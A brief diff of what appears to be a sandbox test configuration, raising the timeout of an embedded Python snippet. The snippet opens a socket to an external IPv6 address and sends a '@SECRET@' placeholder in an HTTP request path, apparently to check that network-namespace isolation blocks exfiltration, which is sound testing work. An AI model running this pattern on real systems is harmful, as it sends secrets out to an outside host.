@@ -8,7 +8,7 @@ LAB = True
 WALLS = "network-namespace"
 PYTHON = """
 import socket
-with socket.create_connection(("2606:2800:220:1::10", 80), 10) as line:
+with socket.create_connection(("2606:2800:220:1::10", 80), 30) as line:
     line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
     line.recv(999)
 """
